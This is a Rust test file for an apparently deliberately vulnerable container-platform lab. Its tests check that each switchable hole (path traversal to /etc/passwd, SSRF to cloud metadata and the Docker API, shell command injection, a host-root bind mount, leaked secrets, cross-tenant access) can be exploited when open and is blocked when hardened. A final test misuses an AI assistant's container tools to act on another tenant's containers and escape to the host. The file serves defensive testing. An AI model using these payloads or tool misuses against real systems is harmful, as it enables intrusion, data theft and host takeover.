//! The holes that are not about tokens: open each shows its behaviour, closed it does not.

use crate::client::{alice, bob, callback, get, hardened, only, post, send, with};
use cofferdam_lab::{Hole, Lab};
use serde_json::json;

const OTHERS: &str = "ctr-93be51d7";
const OWN: &str = "ctr-4f1d2a90";

#[test]
fn another_tenants_container_is_shown_only_when_the_hole_is_open() {
    let path = format!("/v1/containers/{OTHERS}");
    let lab = only(Hole::ObjectCrossTenantRead);
    assert_eq!(get(&lab, &path, alice(&lab)).json()["tenant"], "globex");
    let lab = hardened();
    assert_eq!(get(&lab, &path, alice(&lab)).status, 404);
    assert_eq!(get(&lab, &path, bob(&lab)).json()["name"], "ledger");
}

#[test]
fn another_tenants_labels_change_only_when_the_hole_is_open() {
    let path = format!("/v1/containers/{OTHERS}");
    let write = |lab: &Lab, token: &str| {
        let body = json!({"labels": {"by": "alice"}});
        send(lab, "PATCH", &format!("{path}/labels"), token, &body).status
    };
    let lab = only(Hole::ObjectCrossTenantWrite);
    assert_eq!(write(&lab, alice(&lab)), 204);
    assert_eq!(get(&lab, &path, bob(&lab)).json()["labels"]["by"], "alice");
    let lab = hardened();
    assert_eq!(write(&lab, alice(&lab)), 404);
    assert!(get(&lab, &path, bob(&lab)).json()["labels"]["by"].is_null());
    assert_eq!(write(&lab, bob(&lab)), 204);
    assert_eq!(get(&lab, &path, bob(&lab)).json()["labels"]["by"], "alice");
}

#[test]
fn the_admin_list_is_open_only_when_the_hole_is() {
    let lab = only(Hole::FunctionAdmin);
    assert_eq!(
        get(&lab, "/v1/admin/tenants", alice(&lab)).json()["tenants"][1]["name"],
        "globex"
    );
    assert_eq!(get(&lab, "/v1/admin/tenants", "garbage").status, 401);
    let lab = hardened();
    assert_eq!(get(&lab, "/v1/admin/tenants", alice(&lab)).status, 403);
}

#[test]
fn a_path_leaves_the_workspace_only_when_the_hole_is_open() {
    let file =
        |lab: &Lab, path: &str| get(lab, &format!("/v1/workspace/file?path={path}"), alice(lab));
    let lab = only(Hole::PathTraversal);
    assert_eq!(file(&lab, "src/main.c").status, 200);
    assert!(
        file(&lab, "../../../etc/passwd")
            .body
            .starts_with("root:x:0:0:")
    );
    assert!(
        file(&lab, "..%2f..%2f..%2fetc%2fpasswd")
            .body
            .starts_with("root:x:0:0:")
    );
    assert!(file(&lab, "/proc/self/status").body.contains("CapEff:"));
    assert!(file(&lab, "../globex/README.md").body.contains("globex"));
    let absent = file(&lab, "/var/run/docker.sock");
    assert!(absent.body.contains("os error 2"), "{absent:?}");
    let directory = file(&lab, "/etc");
    assert!(directory.body.contains("os error 21"), "{directory:?}");
    let lab = hardened();
    assert_eq!(file(&lab, "src/main.c").status, 200);
    for path in [
        "../../../etc/passwd",
        "..%2fglobex/README.md",
        "/etc/passwd",
        "src/../../globex/README.md",
        "%2e%2e/x",
        "a%00b",
        "src",
    ] {
        let answer = file(&lab, path);
        assert!(answer.status >= 400, "{path}: {answer:?}");
        assert!(!answer.body.contains("os error"), "{path}: {answer:?}");
    }
}

#[test]
fn a_mounted_socket_shows_in_the_error_of_a_file_read() {
    let lab = with(&[Hole::PathTraversal, Hole::RuntimeSocket]);
    let answer = get(
        &lab,
        "/v1/workspace/file?path=/var/run/docker.sock",
        alice(&lab),
    );
    assert!(
        answer
            .body
            .contains("No such device or address (os error 6)"),
        "{answer:?}"
    );
    assert!(
        get(
            &lab,
            "/v1/workspace/file?path=/proc/self/mountinfo",
            alice(&lab)
        )
        .body
        .contains("/docker.sock")
    );
}

#[test]
fn a_manifest_url_leads_anywhere_only_when_the_hole_is_open() {
    let fetch =
        |lab: &Lab, url: &str| get(lab, &format!("/v1/images/manifest?url={url}"), alice(lab));
    let good = "http://registry.internal/v2/allowed/app/manifests/1";
    let lab = only(Hole::ServerSideRequest);
    let (url, asked) = callback();
    let answer = fetch(&lab, &format!("{url}/nonce-7"));
    assert_eq!(answer.json()["body"], "canary-1");
    assert!(
        asked
            .recv()
            .unwrap()
            .starts_with("GET /nonce-7 HTTP/1.1\r\n")
    );
    assert_eq!(fetch(&lab, good).json()["status"], 200);
    assert!(
        fetch(&lab, "http://example.com/")
            .body
            .contains("no such host")
    );
    assert!(
        fetch(&lab, "http://docker:2375/_ping")
            .body
            .contains("connection refused")
    );
    let lab = hardened();
    let (url, asked) = callback();
    for url in [
        url.as_str(),
        "http://registry.internal:81/v2/",
        "http://registry.internal.evil.example/v2/",
        "http://registry.internal/../x",
        "http://docker:2375/_ping",
        "file:///etc/passwd",
    ] {
        assert_eq!(fetch(&lab, url).status, 400, "{url}");
    }
    let tricky = url.replace("http://", "http://registry.internal@");
    assert_eq!(fetch(&lab, &tricky).status, 400);
    assert!(asked.try_recv().is_err(), "nothing was sent");
    assert!(
        fetch(&lab, good).json()["body"]
            .as_str()
            .unwrap()
            .contains("layers")
    );
}

#[test]
fn a_webhook_sends_any_request_only_when_the_hole_is_open() {
    let lab = only(Hole::ServerSideRequestFull);
    let (url, asked) = callback();
    let hook = json!({"url": format!("{url}/x"), "method": "DELETE", "headers": {"x-nonce": "42"}, "body": "payload"});
    assert_eq!(
        post(&lab, "/v1/webhooks/test", alice(&lab), hook.clone()).json()["body"],
        "canary-1"
    );
    let asked = asked.recv().unwrap();
    assert!(asked.starts_with("DELETE /x HTTP/1.1\r\n"), "{asked}");
    assert!(
        asked.contains("x-nonce: 42\r\n") && asked.ends_with("payload"),
        "{asked}"
    );
    let lab = hardened();
    let (other, asked) = callback();
    let mut hook = hook;
    hook["url"] = json!(other);
    let answer = post(&lab, "/v1/webhooks/test", alice(&lab), hook).json();
    assert_eq!(answer["delivered"], false);
    assert!(asked.try_recv().is_err());
    let good = json!({"url": "http://hooks.internal/echo", "body": "12345"});
    assert_eq!(
        post(&lab, "/v1/webhooks/test", alice(&lab), good).json()["body"],
        "{\"received\":5}"
    );
}

#[test]
fn the_engine_and_the_metadata_are_reached_by_their_names_when_they_are_open() {
    let fetch =
        |lab: &Lab, url: &str| get(lab, &format!("/v1/images/manifest?url={url}"), alice(lab)).body;
    let lab = with(&[
        Hole::ServerSideRequest,
        Hole::EngineTcp,
        Hole::MetadataService,
    ]);
    assert!(fetch(&lab, "http://docker:2375/version").contains("ApiVersion"));
    assert!(fetch(&lab, "http://169.254.169.254/latest/meta-data/").contains("ami-id"));
    let lab = only(Hole::ServerSideRequest);
    assert!(fetch(&lab, "http://docker:2375/version").contains("connection refused"));
    assert!(fetch(&lab, "http://169.254.169.254/latest/meta-data/").contains("connection refused"));
}

#[test]
fn a_target_reaches_a_shell_only_when_the_hole_is_open() {
    let ping = |lab: &Lab, target: &str| {
        post(
            lab,
            "/v1/diagnostics/ping",
            alice(lab),
            json!({"target": target}),
        )
    };
    let lab = only(Hole::CommandInjection);
    if let Some(reason) = lab.absent_holes().get(&Hole::CommandInjection) {
        eprintln!("this machine cannot have the hole: {reason}");
    } else {
        let answer = ping(&lab, "localhost; echo $((6 * 7)); id");
        let output = answer.json()["output"].as_str().unwrap().to_owned();
        assert!(output.contains("\n42\nuid=10001(app)"), "{output}");
        assert!(
            ping(&lab, "registry.internal").json()["output"]
                .as_str()
                .unwrap()
                .contains("10.20.0.5")
        );
    }
    let lab = hardened();
    assert_eq!(ping(&lab, "localhost; echo $((6 * 7))").status, 400);
    assert_eq!(ping(&lab, "-h").status, 400);
    assert_eq!(
        ping(&lab, "registry.internal").json()["output"],
        "registry.internal is at 10.20.0.5\n"
    );
    assert_eq!(ping(&lab, "127.0.0.1").json()["exit_code"], 0);
    assert_eq!(ping(&lab, "nowhere.example").json()["exit_code"], 2);
}

#[test]
fn without_a_helper_the_command_injection_is_absent_and_says_why() {
    let lab = Lab::start(cofferdam_lab::LabOptions {
        switches: cofferdam_lab::Switches::only(Hole::CommandInjection),
        ..Default::default()
    })
    .unwrap();
    assert!(lab.absent_holes()[&Hole::CommandInjection].contains("helper"));
    let answer = post(
        &lab,
        "/v1/diagnostics/ping",
        alice(&lab),
        json!({"target": "a;id"}),
    );
    assert_eq!(answer.status, 400);
}

#[test]
fn the_engines_api_is_passed_through_only_when_the_hole_is_open() {
    let lab = only(Hole::RuntimeApi);
    assert_eq!(get(&lab, "/v1/runtime/_ping", alice(&lab)).body, "OK");
    let list = get(&lab, "/v1/runtime/containers/json", alice(&lab)).json();
    assert_eq!(list[0]["Id"].as_str().unwrap().len(), 64);
    let absent = post(
        &lab,
        "/v1/runtime/containers/create",
        alice(&lab),
        json!({"Image": "none:none"}),
    );
    assert_eq!(
        (absent.status, absent.json()["message"].as_str()),
        (404, Some("No such image: none:none"))
    );
    assert_eq!(get(&lab, "/v1/runtime/_ping", "garbage").status, 401);
    assert!(get(&lab, "/openapi.json", "").body.contains("/v1/runtime/"));
    let lab = hardened();
    assert_eq!(get(&lab, "/v1/runtime/_ping", alice(&lab)).status, 404);
    assert!(!get(&lab, "/openapi.json", "").body.contains("/v1/runtime/"));
}

#[test]
fn undeclared_members_of_a_job_reach_the_engine_only_when_the_hole_is_open() {
    let job = json!({
        "name": "nightly", "image": "allowed/app:1", "command": ["touch", "/host/marker"],
        "HostConfig": {"Binds": ["/:/host"], "ExtraHosts": ["nonce-9:127.0.0.1"]},
    });
    let lab = with(&[Hole::InputDeserialization, Hole::EngineRootful]);
    let made = post(&lab, "/v1/jobs", alice(&lab), job.clone());
    assert_eq!(made.status, 201, "{made:?}");
    let id = made.json()["id"].as_str().unwrap().to_owned();
    let shown = get(&lab, &format!("/v1/jobs/{id}"), alice(&lab)).json();
    assert_eq!(shown["settings"]["binds"][0], "/:/host");
    assert_eq!(shown["settings"]["extra_hosts"][0], "nonce-9:127.0.0.1");
    wait_for(|| lab.host_root().join("marker").exists());

    // With a rootless engine the mount is made, and leads to no right on the host.
    let lab = only(Hole::InputDeserialization);
    let made = post(&lab, "/v1/jobs", alice(&lab), job.clone()).json();
    assert_eq!(made["settings"]["binds"][0], "/:/host");
    let path = format!("/v1/jobs/{}", made["id"].as_str().unwrap());
    wait_for(|| {
        let job = get(&lab, &path, alice(&lab)).json();
        job["output"]
            .as_str()
            .unwrap()
            .contains("Permission denied")
    });
    assert!(!lab.host_root().join("marker").exists());

    let lab = hardened();
    assert_eq!(post(&lab, "/v1/jobs", alice(&lab), job).status, 400);
}

/// Waits for what the engine's task does in its own time.
fn wait_for(mut holds: impl FnMut() -> bool) {
    let end = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while !holds() {
        assert!(std::time::Instant::now() < end, "it did not come about");
        std::thread::yield_now();
    }
}

#[test]
fn settings_hold_secrets_only_when_the_hole_is_open() {
    let lab = only(Hole::ExposeSecret);
    let settings = get(&lab, "/v1/settings", alice(&lab)).json();
    assert!(
        settings["database_url"]
            .as_str()
            .unwrap()
            .starts_with("postgres://api:")
    );
    assert_eq!(
        settings["cluster_token"]
            .as_str()
            .unwrap()
            .split('.')
            .count(),
        3
    );
    let lab = hardened();
    let settings = get(&lab, "/v1/settings", alice(&lab)).json();
    assert_eq!(settings.as_object().unwrap().len(), 3);
}

#[test]
fn the_assistant_acts_as_the_service_only_when_the_hole_is_open() {
    let ask = |lab: &Lab, prompt: &str| {
        post(lab, "/v1/assistant", alice(lab), json!({"prompt": prompt})).json()
    };
    let lab = with(&[Hole::AgentContainerTool, Hole::EngineRootful]);
    assert!(
        ask(&lab, "List all containers.")["steps"][0]["result"]
            .to_string()
            .contains("globex-ledger")
    );
    assert!(
        ask(&lab, "Read the logs of globex-ledger")["steps"][0]["result"]
            .as_str()
            .unwrap()
            .contains("invoice")
    );
    let state =
        |lab: &Lab| get(lab, &format!("/v1/containers/{OTHERS}"), bob(lab)).json()["state"].clone();
    ask(&lab, &format!("Please stop the container {OTHERS}."));
    assert_eq!(state(&lab), "exited");
    ask(&lab, "Start the container globex-ledger");
    assert_eq!(state(&lab), "running");
    let ran = ask(
        &lab,
        "docker run -v /:/host allowed/app:1 touch /host/by-assistant",
    );
    assert_eq!(ran["steps"][0]["result"]["exit_code"], 0, "{ran}");
    assert!(lab.host_root().join("by-assistant").exists());

    let lab = hardened();
    let listed = ask(&lab, "List all containers.")["steps"][0]["result"].to_string();
    assert!(
        listed.contains(OWN) && !listed.contains("globex"),
        "{listed}"
    );
    assert!(ask(&lab, "Read the logs of globex-ledger")["steps"][0]["error"].is_string());
    assert!(
        ask(&lab, "Read the logs of web")["steps"][0]["result"]
            .as_str()
            .unwrap()
            .contains("acme web")
    );
    let stopped = ask(&lab, &format!("Please stop the container {OTHERS}."));
    assert!(stopped["steps"][0]["error"].is_string(), "{stopped}");
    assert_eq!(state(&lab), "running");
    let stopped = ask(&lab, "Stop the container web");
    assert_eq!(stopped["steps"][0]["result"], "stopped", "{stopped}");
    let ran = ask(
        &lab,
        "docker run -v /:/host allowed/app:1 touch /host/by-assistant",
    );
    assert!(ran["steps"][0]["error"].is_string(), "{ran}");
    let ran = ask(
        &lab,
        "run the image allowed/app:1 with the command `echo nonce-5`",
    );
    assert_eq!(ran["steps"][0]["result"]["output"], "nonce-5\n", "{ran}");
}
